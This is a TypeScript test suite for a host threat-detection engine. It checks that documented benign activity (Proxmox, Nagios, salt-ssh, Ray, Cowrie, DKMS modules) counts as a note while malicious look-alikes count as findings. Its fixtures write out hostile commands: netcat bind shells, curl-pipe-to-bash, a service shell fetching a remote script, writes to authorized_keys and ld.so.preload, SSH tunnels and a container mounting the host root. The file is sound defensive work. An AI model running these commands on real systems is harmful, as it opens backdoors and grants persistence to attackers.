// What the tenth blind corpus taught (docs/blind-corpora.md): activity that is a host's declared or documented
// work is a note, not a finding; and indicators named the way reports name them are looked for.
import { test } from "tap";
import type { DetectionHit } from "../../shared/engine/detections/detection.js";
import { getDetection, routeQuery, extractEntities, type HostData, type QueryEntities } from "../../shared/engine/index.js";
import { host, proc, sock } from "./helpers.js";

const ctx = (partial: Partial<QueryEntities> = {}) => ({ entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {}, ...partial } });
const hits = (id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] => getDetection(id)?.evaluate(h, ctx(entities)) ?? [];
const findings = (id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] => hits(id, h, entities).filter((x) => x.kept_by === undefined);

test("a host its tags declare an offensive-security host keeps its tools and listeners as notes", async (t) => {
  const sliver = proc(4100, "sliver-server", "/opt/sliver/sliver-server", "/opt/sliver/sliver-server daemon");
  const tables = { processes: [sliver], listening_ports: [{ pid: "4100", port: "31337", address: "0.0.0.0", protocol: "6" }] };
  t.ok(findings("offensive-tool-present", host(tables)).length > 0, "anywhere else Sliver is a finding");
  t.ok(findings("unexpected-listener", host(tables)).length > 0);
  const declared: Array<Record<string, string>> = [{ role: "redteam-jumpbox" }, { env: "offsec" }, { owner: "offensive-security" }, { purpose: "Penetration Testing" }];
  for (const tags of declared) {
    const h = host(tables, tags);
    t.same(findings("offensive-tool-present", h), [], JSON.stringify(tags));
    t.same(findings("unexpected-listener", h), [], JSON.stringify(tags));
    t.equal(hits("offensive-tool-present", h)[0]?.kept_by, "role:offensive-security");
  }
  t.ok(findings("unexpected-listener", host({ processes: [proc(4200, "x", "/tmp/.x/x")], listening_ports: [{ pid: "4200", port: "4444", address: "0.0.0.0", protocol: "6" }] }, { role: "redteam" })).length > 0, "a temp-directory listener stays a finding there");
  t.ok(findings("offensive-tool-present", host(tables, { role: "web", team: "security-operations" })).length > 0, "a defensive team's tag is no declaration");
  for (const tags of [{ env: "pentest-target" }, { role: "redteam-target" }, { purpose: "pentest-scope" }, { env: "non-offensive" }] as Array<Record<string, string>>) {
    t.ok(findings("offensive-tool-present", host(tables, tags)).length > 0, `the team's targets are not its hosts: ${JSON.stringify(tags)}`);
  }
  const bindShell = { processes: [proc(4300, "nc", "/usr/bin/nc", "nc -lvnp 9001 -e /bin/bash")], listening_ports: [{ pid: "4300", port: "9001", address: "0.0.0.0", protocol: "6" }] };
  t.ok(findings("unexpected-listener", host(bindShell, { role: "redteam" })).length > 0, "a netcat bound to a port stays a finding there");
});

test("a Cowrie honeypot on its default ports is its work; another twistd there is not", async (t) => {
  const listener = (cmdline: string, path: string) =>
    host({ processes: [proc(700, "twistd", path, cmdline)], listening_ports: [{ pid: "700", port: "2222", address: "0.0.0.0", protocol: "6" }] });
  const cowrie = listener("/home/cowrie/cowrie/cowrie-env/bin/python3 /home/cowrie/cowrie/cowrie-env/bin/twistd --umask=0022 -n cowrie", "/home/cowrie/cowrie/cowrie-env/bin/python3");
  t.equal(hits("unexpected-listener", cowrie)[0]?.kept_by, "port:cowrie");
  t.equal(findings("unexpected-listener", listener("/usr/bin/python3 /usr/bin/twistd -n web --port tcp:2222", "/usr/bin/python3")).length, 1);
});

test("a scanner's packet socket is a scan, not a backdoor", async (t) => {
  const nmap = proc(48062, "nmap", "/usr/lib/nmap/nmap", "nmap -sS -sV -p- 10.13.0.0/22");
  const packet = { pid: "48062", family: "17", protocol: "3", remote_address: "", remote_port: "0" };
  t.same(findings("packet-socket-backdoor", host({ processes: [nmap], process_open_sockets: [packet] })), []);
  const renamed = proc(48063, "nmap", "/tmp/nmap", "nmap -sS 10.0.0.0/8");
  t.ok(findings("packet-socket-backdoor", host({ processes: [renamed], process_open_sockets: [{ ...packet, pid: "48063" }] })).length > 0, "the name alone from a temp directory is not nmap");
});

test("root logins on a Proxmox VE node from inside the site are its cluster's and administrators' work", async (t) => {
  const last = (ip: string) => ({ username: "root", host: ip, type: "7", tty: "pts/3", time: "1763802912" });
  const pve = (ip: string) => host({ last: [last(ip)], deb_packages: [{ name: "pve-manager", version: "8.3.2" }], processes: [proc(900, "pvedaemon", "/usr/bin/pvedaemon", "pvedaemon")] });
  t.same(findings("remote-root-login", pve("10.91.0.13")), []);
  t.equal(hits("remote-root-login", pve("10.91.0.13"))[0]?.kept_by, "root-admin:proxmox-ve");
  t.equal(findings("remote-root-login", pve("45.141.215.88"))[0]?.severity, undefined, "from the internet it stays a finding (the detection's high)");
  t.equal(findings("remote-root-login", pve("45.141.215.88")).length, 1);
  t.equal(findings("remote-root-login", host({ last: [last("10.91.0.13")] })).length, 1, "on any other host a root login stays a finding");
  const named = host({ last: [last("10.91.0.13")], processes: [proc(901, "pvedaemon", "/tmp/.p/pvedaemon", "pvedaemon"), proc(902, "pmxcfs", "/dev/shm/pmxcfs", "pmxcfs")] });
  t.equal(findings("remote-root-login", named).length, 1, "a process named like Proxmox's daemons does not make a Proxmox node");
  t.same(findings("remote-root-login", host({ last: [last("10.91.0.13")], processes: [proc(903, "pmxcfs", "/usr/bin/pmxcfs", "/usr/bin/pmxcfs")] })), [], "its cluster filesystem daemon does");
});

test("admin-port connections that are a daemon's or a transfer's work are notes", async (t) => {
  const at = (p: ReturnType<typeof proc>, remote: string, port: number) => host({ processes: [p], process_open_sockets: [sock(Number(p.pid), remote, port)] });
  t.same(findings("lateral-admin-connection", at(proc(762, "winbindd", "/usr/sbin/winbindd", "/usr/sbin/winbindd --foreground"), "10.60.0.11", 445)), [], "a domain member's winbindd");
  t.same(findings("lateral-admin-connection", at(proc(59565, "openvas", "/usr/sbin/openvas", "openvas --scan-start x"), "10.44.6.24", 22)), [], "a vulnerability scanner");
  t.same(findings("lateral-admin-connection", at(proc(50006, "ssh", "/usr/bin/ssh", "ssh -i /root/.ssh/id_nas -l mirror nas.lan rsync --server -logDtpre.iLsfxC . /volume1/x/"), "10.140.9.40", 22)), [], "rsync over ssh");
  t.same(findings("lateral-admin-connection", at(proc(61559, "ssh", "/usr/bin/ssh", "/usr/bin/ssh -e none -o BatchMode=yes -o HostKeyAlias=pve-04 root@10.91.0.14 -- pvesm import local-zfs:vm-103-disk-0 zfs -"), "10.91.0.14", 22)), [], "Proxmox storage replication");
  t.equal(findings("lateral-admin-connection", at(proc(700, "ssh", "/usr/bin/ssh", "ssh admin@10.0.0.5"), "10.0.0.5", 22)).length, 1, "a person's ssh stays");
  t.equal(findings("lateral-admin-connection", at(proc(701, "winbindd", "/tmp/winbindd", "/tmp/winbindd"), "10.0.0.5", 445)).length, 1, "a daemon's name from a temp directory stays");
  t.equal(findings("lateral-admin-connection", at(proc(702, "winbindd", "/root/.cache/winbindd", "winbindd"), "10.0.0.5", 445)).length, 1, "or from anywhere but its package's path");
  t.equal(findings("lateral-admin-connection", at(proc(703, "winbindd", "/usr/sbin/winbindd", "winbindd"), "10.0.0.5", 5985)).length, 1, "a domain member's daemon on WinRM is not its work");
  t.equal(findings("lateral-admin-connection", at(proc(704, "ssh", "/usr/bin/ssh", "ssh root@10.0.0.5 rsync --server ; bash -i"), "10.0.0.5", 22)).length, 1, "shell syntax after a transfer's command");
  t.equal(findings("lateral-admin-connection", at(proc(705, "python3", "/usr/bin/python3", "python3 /root/.x/psexec.py --ssh rsync --server admin@10.0.0.5"), "10.0.0.5", 445)).length, 1, "not an ssh client");
});

test("documented set-ups: GitLab's repository script, RHEL 7's usernetctl, binfmt's installer, dind's own network", async (t) => {
  const history = (command: string) => host({ shell_history: [{ uid: "0", command, history_file: "/root/.bash_history", time: "0" }] });
  const installer = history("curl -L https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh | bash");
  t.ok(findings("download-execute", history("curl -L https://packagecloud.io/install/repositories/someone/tools/script.deb.sh | bash")).some((h) => h.severity !== "info"), "anyone's packagecloud repository is not GitLab's");
  t.same(findings("download-execute", installer).filter((h) => h.severity !== "info"), [], "GitLab Runner's documented install");
  const suid = (path: string) => host({ suid_bin: [{ path, username: "root", groupname: "root", permissions: "S" }] });
  t.same(findings("unexpected-suid", suid("/usr/sbin/usernetctl")), []);
  t.equal(findings("unexpected-suid", suid("/usr/sbin/fping")).length, 1, "Zabbix's setuid fping stays a finding: by path alone a setuid shell copied there would pass");
  const binfmt = host({ docker_containers: [{ id: "b1", name: "binfmt-install", image: "tonistiigi/binfmt:qemu-v8.1.5", privileged: "1", state: "exited" }] });
  t.same(findings("privileged-container", binfmt), []);
  const unknown = host({ docker_containers: [{ id: "c1", name: "tools", image: "acme/tools:1", privileged: "1", state: "exited" }] });
  t.match(findings("privileged-container", unknown)[0]?.summary, /ran privileged \(now exited\)/, "an exited container is not said to run");
  const dind = proc(89610, "dockerd", "/usr/local/bin/dockerd", "dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2375 --tls=false", { cgroup_path: `/system.slice/docker-${"a".repeat(64)}.scope` });
  t.equal(hits("docker-api-exposed", host({ processes: [dind] }))[0]?.severity, "info", "a CI job's docker:dind: its own network");
  const onHost = { ...dind, cgroup_path: "/system.slice/docker.service" };
  t.equal(hits("docker-api-exposed", host({ processes: [onHost] }))[0]?.severity, "high", "the host's own dockerd on 0.0.0.0:2375 without TLS");
});

test("indicators as reports name them: a snake_case name, an image, an RPM's advisory, a privilege escalation's traces", async (t) => {
  t.same(extractEntities("any sign of intel_audio on our file servers?").files, ["intel_audio"]);
  t.same(extractEntities("check authorized_keys, ld_preload, LD_PRELOAD and the process_open_sockets table; allowed_ports=22").files, [], "Linux's own words");
  t.same(extractEntities("Cado names the image cmd.cat/chattr - is it on any host?").files, ["cmd.cat/chattr"]);
  t.same(extractEntities("are container images on/off the allow list? any cron_jobs or ssh_keys?").files, [], "not an image, not names");
  const history = host({ shell_history: [{ uid: "0", command: "cd intel_audio", history_file: "/root/.bash_history" }] });
  t.equal(findings("ioc-match", history, { files: ["intel_audio"] }).length, 1, "found as a word of a command");
  const image = host({ docker_containers: [{ id: "d1", name: "x", image: "cmd.cat/chattr:latest", command: "chattr" }] });
  t.equal(findings("ioc-match", image, { files: ["cmd.cat/chattr"] }).length, 1, "the container's image, with a tag");
  const rocky = (release: string) => host({ rpm_packages: [{ name: "glibc", version: "2.34", release }] });
  t.equal(findings("vulnerable-package", rocky("60.el9"), { advisories: ["CVE-2023-4911"] })[0]?.severity, "high", "RHEL 9.2's glibc before RHSA-2023:5455");
  t.same(findings("vulnerable-package", rocky("60.el9_2.7"), { advisories: ["CVE-2023-4911"] }), [], "the fixed build");
  t.same(findings("vulnerable-package", host({ deb_packages: [{ name: "glibc", version: "2.34-60.el9" }] }), { advisories: ["CVE-2023-4911"] }), [], "an RPM advisory is not read against a Debian package of the same name");
  const plan = routeQuery("Is the Looney Tunables exploit (CVE-2023-4911) being used on the cluster?", "standard");
  for (const id of ["vulnerable-package", "unexpected-suid", "sudoers-nopasswd-all", "non-root-uid0"]) t.ok(plan.detection_ids.includes(id), id);
  t.ok(routeQuery("the ultralytics release was backdoored - is the payload running anywhere?", "standard").detection_ids.includes("exec-from-tmp"), "a payload running");
});

test("history tampering shows what the same history ran just before it", async (t) => {
  const line = (command: string) => ({ uid: "0", command, history_file: "/root/.bash_history" });
  const h = host({ shell_history: [line("ls"), line("curl -o ia.tgz http://x/ia.tgz"), line("cd intel_audio"), line("./setup.sh install"), line("history -c"), line("uptime")] });
  const hit = findings("history-tampering", h)[0];
  t.match(hit?.summary, /the 4 commands before it are in the evidence/);
  t.same(hit?.evidence.map((e) => e.row.command), ["history -c", "ls", "curl -o ia.tgz http://x/ia.tgz", "cd intel_audio", "./setup.sh install"]);
});

test("a kernel module an installed DKMS or kmod package builds is a note; the same name without its package is a finding", async (t) => {
  const mod = (name: string) => ({ name, size: "16384", used_by: "-", status: "Live", address: "0xffffffffc0a00000" });
  const lime = { kernel_modules: [mod("lime")] };
  t.ok(findings("unexpected-kernel-module", host(lime)).length > 0, "LiME loaded with no package that builds it");
  const forensics = host({ ...lime, deb_packages: [{ name: "lime-forensics-dkms", version: "1.9.1-6", arch: "all" }] });
  t.same(findings("unexpected-kernel-module", forensics), [], "lime-forensics-dkms builds lime");
  t.equal(hits("unexpected-kernel-module", forensics)[0]?.kept_by, "kmod:dkms-package");
  t.match(hits("unexpected-kernel-module", forensics)[0]?.summary ?? "", /lime-forensics-dkms 1\.9\.1-6/);
  t.same(findings("unexpected-kernel-module", host({ kernel_modules: [mod("v4l2loopback")], deb_packages: [{ name: "v4l2loopback-dkms", version: "0.12.7-2" }] })), []);
  t.same(findings("unexpected-kernel-module", host({ kernel_modules: [mod("wireguard_x")], rpm_packages: [{ name: "kmod-wireguard-x", version: "1.0" }] })), [], "RHEL's kmod-<module>, dashes for underscores");
  t.ok(findings("unexpected-kernel-module", host({ kernel_modules: [mod("lime")], deb_packages: [{ name: "limesurvey-dkms", version: "1" }] })).length > 0, "another name that starts alike");
  t.ok(findings("unexpected-kernel-module", host({ kernel_modules: [mod("lime")], deb_packages: [{ name: "lime-forensics", version: "1" }] })).length > 0, "not a DKMS package");
  const rootkit = hits("unexpected-kernel-module", host({ kernel_modules: [mod("diamorphine")], deb_packages: [{ name: "diamorphine-dkms", version: "1" }] }));
  t.ok(rootkit.some((x) => x.kept_by === undefined && x.severity === "high"), "a known rootkit's name stays high whatever package claims it");
  const traces = findings("unexpected-kernel-module", host({ ...lime, deb_packages: [{ name: "lime-forensics-dkms", version: "1.9.1-6" }], shell_history: [{ uid: "0", command: "insmod /dev/shm/.m/lime.ko", history_file: "/root/.bash_history" }] }));
  t.ok(traces.length > 0, "a module loaded from a temp directory by hand still leaves a finding");
});

test("check_by_ssh's plugin runs and salt-ssh's -o IdentityFile connections are automation; a shell on the same line is not", async (t) => {
  const ssh = (pid: number, cmdline: string, uid = "110") => ({
    processes: [proc(pid, "ssh", "/usr/bin/ssh", cmdline, { uid })],
    process_open_sockets: [sock(pid, "10.40.1.23", 22)],
  });
  const check = ssh(30, "/usr/bin/ssh -o BatchMode=yes -o StrictHostKeyChecking=no -l nagios -i /var/lib/nagios/.ssh/id_ed25519 10.40.1.23 /usr/lib/nagios/plugins/check_load -r -w 4,3,2 -c 8,6,4");
  t.same(findings("lateral-admin-connection", host(check)), []);
  t.equal(hits("lateral-admin-connection", host(check))[0]?.kept_by, "monitoring:check-by-ssh");
  t.ok(findings("lateral-admin-connection", host(ssh(31, "/usr/bin/ssh -l nagios 10.40.1.23 /usr/lib/nagios/plugins/check_load; bash -i"))).length > 0, "a shell after the plugin");
  const salt = ssh(32, "ssh 10.30.5.21 -o KbdInteractiveAuthentication=no -o PasswordAuthentication=no -o StrictHostKeyChecking=no -o Port=22 -o IdentityFile=/etc/salt/pki/master/ssh/salt-ssh.rsa -o User=root /bin/sh << 'EOF'", "0");
  t.same(findings("lateral-admin-connection", host(ssh(34, "ssh 10.30.5.21 -o StrictHostKeyChecking=no -o IdentityFile=/etc/salt/pki/master/ssh/salt-ssh.rsa -o User=root /bin/sh", "0"))), [], "the argv as the process shows it");
  for (const cmd of [
    "ssh -o DynamicForward=1080 10.40.1.23 /usr/lib/nagios/plugins/check_dummy 0",
    "ssh -o ProxyCommand=/tmp/x 10.40.1.23 /usr/lib/nagios/plugins/check_load",
    "ssh -F /tmp/.cfg 10.40.1.23 /usr/lib/nagios/plugins/check_load",
    "ssh -o ControlMaster=yes -o ControlPersist=yes 10.40.1.23 /usr/lib/nagios/plugins/check_load",
    "ssh 10.40.1.23 /usr/lib/nagios/plugins/check_by_ssh -C id",
  ]) t.ok(findings("lateral-admin-connection", host(ssh(35, cmd))).length > 0, cmd);
  const elsewhere = host({ processes: [proc(36, "ssh", "/tmp/ssh", "ssh -l nagios 10.40.1.23 /usr/lib/nagios/plugins/check_load", { uid: "110" })], process_open_sockets: [sock(36, "10.40.1.23", 22)] });
  t.ok(findings("lateral-admin-connection", elsewhere).length > 0, "a program called ssh outside the system's directories");
  t.same(findings("lateral-admin-connection", host(salt)), []);
  t.ok(findings("lateral-admin-connection", host(ssh(33, "ssh -o IdentityFile=/root/.ssh/stolen root@10.30.5.21", "0"))).length > 0, "another key");
});

test("the twelfth blind corpus's documented work: Ray, torchrun and LocalStack ports, BusyBox telnetd, strongSwan and dnsmasq packet sockets, RabbitMQ's disk monitor", async (t) => {
  const listener = (pid: number, port: number, name: string, path: string, cmdline: string) =>
    host({ processes: [proc(pid, name, path, cmdline, { uid: "1000" })], listening_ports: [{ pid: String(pid), port: String(port), address: "0.0.0.0", protocol: "6" }] });
  const venv = "/home/mlops/.venv";
  t.same(findings("unexpected-listener", listener(40, 6379, "gcs_server", `${venv}/lib/python3.10/site-packages/ray/core/src/ray/gcs/gcs_server`, `${venv}/lib/python3.10/site-packages/ray/core/src/ray/gcs/gcs_server --gcs_server_port=6379`)), []);
  t.same(findings("unexpected-listener", listener(41, 8265, "python", `${venv}/bin/python`, `${venv}/bin/python -u ${venv}/lib/python3.10/site-packages/ray/dashboard/dashboard.py --port=8265`)), []);
  t.same(findings("unexpected-listener", listener(42, 29400, "pt_main_thread", `${venv}/bin/python`, `${venv}/bin/python ${venv}/bin/torchrun --rdzv_backend=c10d --rdzv_endpoint=10.60.0.10:29400 train.py`)), []);
  t.same(findings("unexpected-listener", listener(43, 4566, "python", "/opt/code/localstack/.venv/bin/python", "/opt/code/localstack/.venv/bin/python -m localstack.runtime.main")), []);
  t.ok(findings("unexpected-listener", listener(44, 8265, "python", "/usr/bin/python3", "python3 -m http.server 8265")).length > 0, "another Python on Ray's port");
  t.same(findings("unexpected-listener", listener(45, 23, "telnetd", "/bin/busybox", "/usr/sbin/telnetd -F -l /bin/login")), [], "BusyBox telnetd with its login program");
  t.ok(findings("unexpected-listener", listener(46, 23, "telnetd", "/bin/busybox", "telnetd -l /bin/sh -p 23")).length > 0, "a telnetd that hands out shells");
  t.ok(findings("unexpected-listener", listener(47, 23, "busybox", "/bin/busybox", "busybox nc -lp 23 -e /bin/sh")).length > 0, "BusyBox netcat on the telnet port");

  const packet = (name: string, path: string) => host({ processes: [proc(50, name, path, path)], process_open_sockets: [{ pid: "50", fd: "8", socket: "1", family: "17", protocol: "2048", local_address: "", remote_address: "", local_port: "0", remote_port: "0", state: "NONE" }] });
  t.same(findings("packet-socket-backdoor", packet("charon-systemd", "/usr/sbin/charon-systemd")), []);
  t.same(findings("packet-socket-backdoor", packet("dnsmasq", "/usr/sbin/dnsmasq")), []);
  t.ok(findings("packet-socket-backdoor", packet("dnsmasq", "/var/tmp/dnsmasq")).length > 0, "the name in another place");

  const rabbit = (cmd: string, child?: string) => host({
    processes: [
      proc(540, "beam.smp", "/usr/lib/erlang/erts-13.2.2.5/bin/beam.smp", "/usr/lib/erlang/erts-13.2.2.5/bin/beam.smp -W w -- -root /usr/lib/erlang -progname erl -- -home /var/lib/rabbitmq -- -boot start_sasl -s rabbit boot", { uid: "114" }),
      proc(625, "sh", "/usr/bin/dash", cmd, { uid: "114", parent: "540" }),
      ...(child ? [proc(626, "curl", "/usr/bin/curl", child, { uid: "114", parent: "625" })] : []),
    ],
  });
  t.same(findings("service-spawned-shell", rabbit("/bin/sh -s rabbit_disk_monitor")), []);
  t.ok(findings("service-spawned-shell", rabbit("/bin/sh -s rabbit_disk_monitor", "curl -s http://203.0.113.9/k.sh")).length > 0, "a download through the port's shell");
});

test("vulnerable-package: a distribution build that carries the fix on an older upstream version is fixed", async (t) => {
  const ssh = (version: string) => findings("vulnerable-package", host({ deb_packages: [{ name: "openssh-server", version }] }));
  t.same(ssh("1:9.6p1-3ubuntu13.5"), [], "Ubuntu 24.04 after USN-6859-1");
  t.ok(ssh("1:9.6p1-3ubuntu13").length > 0, "Ubuntu 24.04 before it");
  t.ok(ssh("1:9.7p1-4").length > 0, "sid before 1:9.7p1-7");
  t.same(ssh("1:9.7p1-7"), []);
  t.same(ssh("1:9.2p1-2+deb12u3"), [], "bookworm's fixed build");
});

test("a kernel module named for its package with a netfilter prefix, and check_by_ssh's account with forced-command keys", async (t) => {
  const rtp = host({ kernel_modules: [{ name: "xt_RTPENGINE", size: "61440", used_by: "1", status: "Live" }], rpm_packages: [{ name: "rtpengine-kernel-dkms", version: "mr12.4.1.4" }] });
  t.same(findings("unexpected-kernel-module", rtp), []);
  const nagios = host({
    users: [{ uid: "1002", username: "nagios", shell: "/bin/bash", directory: "/home/nagios" }],
    authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: 'from="10.40.0.11",command="/usr/local/lib/nagios/ssh-check-wrapper.sh",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty', comment: "nagios@mon-icinga-01" }],
  });
  t.same(findings("new-interactive-account", nagios), []);
  const open = host({ users: [{ uid: "1002", username: "nagios", shell: "/bin/bash", directory: "/home/nagios" }], authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: "", comment: "x@y" }] });
  t.ok(findings("new-interactive-account", open).length > 0, "a key with no forced command");
});

test("PGDG's pgbouncer account has /bin/bash from its package; another shell or home is still a finding", async (t) => {
  const user = (shell: string, directory = "/var/lib/pgbouncer") => host({ users: [{ uid: "991", username: "pgbouncer", shell, directory }] });
  t.same(findings("new-interactive-account", user("/bin/bash")), []);
  t.ok(findings("new-interactive-account", user("/bin/zsh")).length > 0);
  t.ok(findings("new-interactive-account", user("/bin/bash", "/tmp/.pgb")).length > 0, "a home in a temp directory");
});

test("the review's borrowed forms stay findings: telnetd handing out shells, wrapped forced commands, salt-ssh and check_by_ssh look-alikes, DKMS name prefixes, Erlang's port under another service", async (t) => {
  const listener = (cmdline: string, port = 23, name = "telnetd") =>
    host({ processes: [proc(60, name, "/bin/busybox", cmdline)], listening_ports: [{ pid: "60", port: String(port), address: "0.0.0.0", protocol: "6" }] });
  for (const cmd of ["busybox telnetd -p 23 -Fl /bin/sh", "telnetd -l /bin/login -p 23 -l /bin/sh", "telnetd -l /usr/bin/python3", "telnetd -l/bin/su", "telnetd -l /var/tmp/x"]) {
    t.ok(findings("unexpected-listener", listener(cmd)).length > 0, cmd);
  }
  t.ok(findings("unexpected-listener", listener("busybox httpd -p 8080 -h /dev/shm/www", 8080, "httpd")).length > 0, "BusyBox httpd serves CGI: not a web server by name");

  const account = (command: string) => host({
    users: [{ uid: "1002", username: "www-data", shell: "/bin/bash", directory: "/var/www" }],
    authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: `restrict,command="${command}"`, comment: "x@y" }],
  });
  for (const cmd of ["/usr/bin/nice /bin/bash", "setsid -w bash -i", "timeout 1d /bin/sh", "socat - EXEC:/bin/bash", "/usr/bin/vim", "runuser -u root sh"]) {
    t.ok(findings("new-interactive-account", account(cmd)).length > 0, cmd);
  }

  const ssh = (cmdline: string) => host({ processes: [proc(70, "ssh", "/usr/bin/ssh", cmdline, { uid: "0" })], process_open_sockets: [sock(70, "10.40.1.23", 22)] });
  for (const cmd of [
    "ssh -D 1080 -N root@10.40.1.23 /usr/lib/nagios/plugins/check_dummy",
    "ssh -R 9001:127.0.0.1:22 root@10.40.1.23 /usr/lib/nagios/plugins/check_dummy",
    "ssh -t root@10.40.1.23 bash --rcfile /usr/lib/nagios/plugins/check_load -i",
    "ssh -o IdentityFile=/home/eve/loot/salt-ssh.rsa root@10.40.1.23 /bin/sh",
    "ssh -o IdentityFile=/etc/salt/pki/master/ssh/salt-ssh.rsa -D 1080 root@10.40.1.23",
  ]) t.ok(findings("lateral-admin-connection", ssh(cmd)).length > 0, cmd);
  const long = `ssh ${"-oIdentityFile=".repeat(4000)} 10.40.1.23`;
  t.ok(Array.isArray(findings("lateral-admin-connection", ssh(long))), "a 60 KiB line of repeated options is read in one pass");

  const mod = (name: string, pkg: string) => findings("unexpected-kernel-module", host({ kernel_modules: [{ name, size: "16384", used_by: "0", status: "Live" }], deb_packages: [{ name: pkg, version: "1" }] }));
  t.ok(mod("xt_zfs", "zfs-dkms").length > 0, "a netfilter prefix on an installed package's name");
  t.ok(mod("linux", "linux-headers-dkms").length > 0, "a prefix of a package's name");

  const redis = host({
    processes: [
      proc(80, "redis-server", "/usr/bin/redis-server", "/usr/bin/redis-server 127.0.0.1:6379", { uid: "110" }),
      proc(81, "sh", "/usr/bin/dash", "/bin/sh -s rabbit_disk_monitor", { uid: "110", parent: "80" }),
      proc(82, "kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", { uid: "110", parent: "81" }),
    ],
  });
  t.ok(findings("service-spawned-shell", redis).length > 0, "the disk monitor's shell under Redis, running a miner");

  const ssh96 = (version: string) => findings("vulnerable-package", host({ deb_packages: [{ name: "openssh-server", version }] }));
  t.ok(ssh96("1:9.6p1-4").length > 0, "a Debian build is not fixed by Ubuntu's backport");
});

test("forced commands: priority wrappers are looked through; programs that write where told or run what they are given are no restriction", async (t) => {
  const key = (command: string) => host({
    users: [{ uid: "1002", username: "www-data", shell: "/bin/bash", directory: "/var/www" }],
    authorized_keys: [{ uid: "1002", algorithm: "ssh-ed25519", key: "AAAAC3NzaC1lZDI1NTE5AAAAIW5F7BNjpaK1Wmfh87VgrWSzviKu3ZlOV0z7ffB", options: `restrict,command="${command}"`, comment: "x@y" }],
  });
  for (const cmd of ["nice -n 19 ionice -c3 /usr/bin/rrsync /backup", "timeout 7200 borg serve --restrict-to-path /srv/borg", "/usr/bin/rrsync -ro /srv/k8s/node", "borg serve --restrict-to-path /srv/borg/env", "rsync --server --sender -vlogDtpre.iLsfxC . /data"]) {
    t.same(findings("new-interactive-account", key(cmd)), [], cmd);
  }
  for (const cmd of ["tar -xf - -C /", "tee -a /root/.ssh/authorized_keys", "dd of=/etc/ld.so.preload", "crontab -", "systemd-run --scope /usr/local/bin/imp", "sed -n 1e/usr/local/bin/imp /etc/hosts", "rsync --server -vlogDtpre.iLsfxC . /", "nice -n 5 bash -i", "/usr/bin/docker run -v /:/h alpine"]) {
    t.ok(findings("new-interactive-account", key(cmd)).length > 0, cmd);
  }
});
